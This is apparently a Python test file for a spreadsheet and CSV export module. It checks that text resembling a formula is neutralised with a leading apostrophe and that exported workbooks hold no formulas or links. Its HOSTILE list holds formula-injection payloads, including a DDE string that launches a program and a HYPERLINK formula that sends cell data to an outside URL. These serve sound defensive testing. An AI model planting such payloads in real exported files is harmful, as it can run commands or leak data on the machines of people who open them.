"""What leaves in a file: text stays text, numbers stay numbers, nothing is a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Sequence
from datetime import date, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from barometer import export
from barometer.export import FORMULA_STARTS, Sheet, csv_bytes, workbook_bytes

HOSTILE = (
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
)
TEXTS = st.text(st.characters(codec="utf-8"), max_size=30)


def written(data: bytes) -> list[list[str]]:
    """The records of a CSV as a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def book_of(
    header: Sequence[str], rows: Sequence[Sequence[object]], name: str = "Problems"
) -> bytes:
    """The rows as a workbook of one sheet."""
    return workbook_bytes([Sheet(name, header, rows)])


def cells(data: bytes) -> Sequence[Sequence[object]]:
    """The rows of a workbook's first sheet."""
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


@pytest.mark.parametrize("cell", HOSTILE)
def test_export_text_that_looks_like_a_formula_is_text(cell: str) -> None:
    assert written(csv_bytes([cell], [[cell]])) == [[f"'{cell}"], [f"'{cell}"]]
    first = [str(row[0]).replace("_x000D_", "\r") for row in cells(book_of([cell], [[cell]]))]
    assert [value.startswith("'") for value in first] == [True, True]


def test_export_workbook_holds_no_formula_and_no_link() -> None:
    rows = [[cell] for cell in (*HOSTILE, "http://example.org", "mailto:a@b.example")]
    with zipfile.ZipFile(io.BytesIO(book_of(["value"], rows))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet
        assert b"<hyperlink" not in sheet
        assert not [name for name in book.namelist() if "sheet1.xml.rels" in name]


def test_export_numbers_days_and_missing_stay_what_they_are() -> None:
    header = ["change", "n", "asked", "held_on", "day", "text"]
    rows: list[list[object]] = [
        [-4.5, -3, True, datetime(2025, 3, 4), date(2025, 3, 4), ""],
        [None, None, False, datetime(2025, 3, 4, 10, 5), None, None],
    ]
    assert written(csv_bytes(header, rows))[1:] == [
        ["-4.5", "-3", "True", "2025-03-04", "2025-03-04", ""],
        ["", "", "False", "2025-03-04 10:05:00", "", ""],
    ]
    first, second = cells(book_of(header, rows))[1:]
    assert first[:3] == [-4.5, -3.0, True]
    assert str(first[4]).startswith("2025-03-04")
    assert second[:2] == ["", ""]


def test_export_csv_opens_with_its_accents_and_line_ends() -> None:
    data = csv_bytes(["tribu"], [["Équipe « A »"], ['dit "oui",\net non']])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b'"dit ""oui"",\net non"\r\n')
    assert written(data)[1:] == [["Équipe « A »"], ['dit "oui",\net non']]


@given(st.lists(TEXTS, min_size=1, max_size=5))
def test_export_csv_gives_back_every_text_but_its_apostrophe(texts: list[str]) -> None:
    found = [row[1] for row in written(csv_bytes(["x", "y"], [["x", t] for t in texts]))][1:]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in found)
    pairs = zip(texts, found, strict=True)
    assert all(cell == (f"'{t}" if t.startswith(FORMULA_STARTS) else t) for t, cell in pairs)


@given(TEXTS, TEXTS)
@example("", "0" * 22 + "\U00010000" * 5)
def test_export_workbook_takes_any_text_and_any_name(text: str, name: str) -> None:
    first = cells(book_of(["x"], [[text], ["end"]], name))
    assert first[-1] == ["end"]


def test_export_infinite_numbers_and_ancient_days_are_written_as_text() -> None:
    rows: list[list[object]] = [[float(x), date(1789, 7, 14)] for x in ("inf", "-inf")]
    told = cells(book_of(["x", "day"], rows))[1:]
    assert told == [["inf", "1789-07-14"], ["'-inf", "1789-07-14"]]


def test_export_more_rows_than_a_sheet_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "SHEET_ROWS", 3)
    assert len(cells(book_of(["x"], [[1], [2]]))) == 3
    with pytest.raises(ValueError, match="3 rows"):
        book_of(["x"], [[1], [2], [3]])
